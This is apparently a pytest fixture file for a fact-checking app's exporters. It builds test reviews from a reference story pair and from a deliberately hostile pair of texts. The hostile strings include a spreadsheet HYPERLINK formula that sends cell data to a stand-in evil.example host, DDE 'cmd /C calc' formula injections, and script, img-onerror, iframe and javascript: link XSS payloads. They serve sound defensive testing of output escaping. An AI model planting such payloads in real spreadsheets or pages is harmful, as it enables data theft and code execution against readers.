"""Reviews to export: a small hand-built one with exact diff ops, and reviews made through the
real engine and store (SQLite file) from the reference pair and from a hostile pair."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from factcheck_gui.engine import compare_texts
from factcheck_gui.engine.types import (
    Change,
    ChangeKind,
    Claim,
    Comparison,
    DiffOp,
    DiffOpKind,
    Document,
    Flag,
    FlagType,
    SourceInfo,
)
from factcheck_gui.exporters import ClaimReviewPublisher, ExportOptions
from factcheck_gui.store import ReviewStore
from factcheck_gui.store.records import HistoryRecord, Review, ReviewSummary, VerdictRecord

ROOT = Path(__file__).resolve().parents[2]
# The built-in demo pair: the reference story, shipped in resources/samples.
STORIES = ROOT / "resources" / "samples"

LONG_CLAIM = "The ministry said " + "very " * 1995 + "long claims cost 4 dollars."  # > 10,000 chars
# Each line of the hostile original is a claim a reviewer might paste from a hostile page.
HOSTILE_ORIGINAL = "\n\n".join(
    [
        '=HYPERLINK("http://evil.example/steal?d="&A1,"Click for details") said the mayor on Monday.',
        "+44 people were hurt in the crash, police said.",
        "-5 degrees was the lowest reading of the year.",
        "@SUM(1+1)*cmd|' /C calc'!A0 was found in the leaked sheet.",
        "\tThe tabbed claim says 12 ships left.",
        "<script>alert('owned')</script> The council met on Tuesday.",
        'The photo <img src=x onerror="alert(1)"> showed 300 protesters.',
        "The minister \u202eevil\u202c said that \u200fشكرا\u200f was not the reply.",
        "The fans 🎉 cheered as 2 goals 👍🏽 were scored.",
        LONG_CLAIM,
    ]
)
HOSTILE_REWRITE = "\n\n".join(
    [
        '=HYPERLINK("http://evil.example/steal?d="&A1,"Click here") said the mayor on Friday.',
        "+45 people were hurt in the crash, police claimed.",
        "-7 degrees was the lowest reading of the year.",
        "@SUM(1+1)*cmd|' /C calc'!A0 was found in the leaked sheet.",
        "\tThe tabbed claim says 13 ships left.",
        "<script>alert('owned')</script> The council met on Wednesday.",
        'The photo <img src=x onerror="alert(2)"> showed 3,000 protesters.',
        "The minister \u202eevil\u202c said that \u200fشكرا\u200f was the reply.",
        "The fans 🎉 cheered as 3 goals 👍🏽 were scored.",
        LONG_CLAIM.replace("4 dollars", "5 dollars"),
        "<iframe src=//evil.example></iframe> [link](javascript:alert(1)) ![img](http://evil.example/p.png) "
        "# not a heading | not | a table ~~ **.",
    ]
)
HOSTILE_NOTE = '=cmd|"/C calc"!A0 <script>alert("note")</script> ![x](http://evil.example/n.png)'
T0 = datetime(2024, 6, 20, 9, 30, tzinfo=UTC)
# Who publishes the ClaimReview items (the app asks once, in Settings; the CLI takes options).
PUBLISHER = ClaimReviewPublisher("Example Fact Checks", "Ana Analyst", "https://checks.example/reviews/7")


def options_for(fmt: str) -> ExportOptions:
    """The options an export of ``fmt`` needs (a publisher for ClaimReview, nothing else)."""
    return ExportOptions(publisher=PUBLISHER) if fmt == "claimreview" else ExportOptions()


def _build(url: str, original: str, rewrite: str, *, title: str, names: tuple[str, str]) -> Review:
    cmp = compare_texts(original, rewrite, original_name=names[0], rewrite_name=names[1])
    store = ReviewStore.open(url)
    try:
        rid = store.create_review(cmp, title=title, reviewer="Ana Analyst")
        review = store.load_review(rid)
        to_review = [c for c in review.comparison.changes if c.is_change]
        scale = review.scale
        for i, ch in enumerate(to_review):
            if i % 3 == 2:
                continue  # leave some changes without a verdict
            note = HOSTILE_NOTE if i == 0 else ("" if i % 2 else f"checked against the wire copy ({i})")
            store.set_verdict(
                rid, ch.id, scale[i % len(scale)], reviewer="Ana Analyst", note=note, expected_version=None
            )
        if to_review:
            # A second reviewer changes the first verdict: the history has more than one row per change.
            store.set_verdict(
                rid,
                to_review[0].id,
                "Misquote",
                reviewer="=Bob Editor",
                note=HOSTILE_NOTE,
                expected_version=1,
            )
        return store.load_review(rid)
    finally:
        store.close()


@pytest.fixture
def make_store_review(tmp_path: Path) -> Callable[[str], Review]:
    """``make("reference")`` or ``make("hostile")``: a review built through engine and SQLite store."""

    def make(which: str) -> Review:
        url = f"sqlite:///{tmp_path / 'reviews.sqlite3'}"
        if which == "reference":
            a = (STORIES / "original.txt").read_text(encoding="utf-8")
            b = (STORIES / "rewrite.txt").read_text(encoding="utf-8")
            return _build(url, a, b, title="Putin and North Korea", names=("original.txt", "rewrite.txt"))
        return _build(
            url,
            HOSTILE_ORIGINAL,
            HOSTILE_REWRITE,
            title='<script>alert("title")</script> =1+1',
            names=("<b>orig</b>.txt", "=rewrite.txt"),
        )

    return make


@pytest.fixture(params=["reference", "hostile"])
def store_review(request: pytest.FixtureRequest, make_store_review: Callable[[str], Review]) -> Review:
    """Each format's tests run on both store-built reviews."""
    return make_store_review(request.param)


def hand_review() -> Review:
    """A two-change review with known offsets, diff ops, a lone surrogate and control characters."""
    o_text = "Putin said 5 people left.\nShe denied it \ud800 here.\x07"
    r_text = "Putin claimed 7 people left.\nA new claim.\x00"
    o1 = Claim("o1", 0, 25, 0, o_text[0:25])
    o2 = Claim("o2", 26, len(o_text), 1, o_text[26:])
    r1 = Claim("r1", 0, 28, 0, r_text[0:28])
    r2 = Claim("r2", 29, len(r_text), 1, r_text[29:])
    original = Document(
        "orig.txt",
        o_text,
        (o1, o2),
        SourceInfo(
            kind="url",
            location="https://news.example/a",
            title="Wire story",
            author="Reporter A",
            published="2024-06-19",
            sha256="ab" * 32,
            imported_at="2024-06-20T08:00:00+00:00",
        ),
    )
    rewrite = Document(
        "rewrite.txt",
        r_text,
        (r1, r2),
        SourceInfo(
            kind="url",
            location="https://blog.example/b",
            final_url="https://blog.example/b?x=1",
            title="Blog post",
            author="Blogger B",
            warnings=("reflowed hard line breaks",),
        ),
    )
    c1 = Change(
        "c1",
        ChangeKind.REWORDED,
        ("o1",),
        ("r1",),
        0.712345678901,
        diff=(
            DiffOp(DiffOpKind.EQUAL, (0, 6), (0, 6)),
            DiffOp(DiffOpKind.REPLACE, (6, 10), (6, 13)),  # said → claimed
            DiffOp(DiffOpKind.EQUAL, (10, 11), (13, 14)),
            DiffOp(DiffOpKind.REPLACE, (11, 12), (14, 15)),  # 5 → 7
            DiffOp(DiffOpKind.EQUAL, (12, 24), (15, 27)),
            DiffOp(DiffOpKind.REPLACE, (24, 25), (27, 28), trivial=True),
        ),
        flags=(
            Flag(FlagType.NUMBER, "5", "7", "number changed: 5 → 7", (11, 12), (14, 15)),
            Flag(FlagType.ATTRIBUTION, "said", "claimed", "attribution changed: said → claimed"),
        ),
    )
    c2 = Change("c2", ChangeKind.REMOVED, ("o2",), (), 0.0)
    c3 = Change("c3", ChangeKind.ADDED, (), ("r2",), 0.0, moved=True)
    cmp = Comparison(original, rewrite, (c1, c2, c3), "0.1.0")
    verdicts = {
        "c1": VerdictRecord("c1", "Misleading", "=2+2 <b>bold</b>\nsecond line", "Ana", T0, 2),
        "c2": VerdictRecord("c2", None, "cleared, note kept", "Ben", T0, 3),
        "c3": VerdictRecord("c3", "Unsupported", "", "Ben", T0, 1, carried_from="review 4 change c9"),
    }
    history = (
        HistoryRecord("c1", "set", None, "Accurate", "", "", "Ana", T0, 1),
        HistoryRecord(
            "c1", "changed", "Accurate", "Misleading", "", "=2+2 <b>bold</b>\nsecond line", "Ana", T0, 2
        ),
        HistoryRecord("c3", "carried", None, "Unsupported", "", "", "Ben", T0, 1, "review 4 change c9"),
    )
    summary = ReviewSummary(7, "Hand <i>made</i>", "open", T0, T0, ("Ana", "Ben"), 3, 2)
    return Review(summary, cmp, verdicts=verdicts, history=history, engine_version="0.1.0")


@pytest.fixture
def hand() -> Review:
    return hand_review()
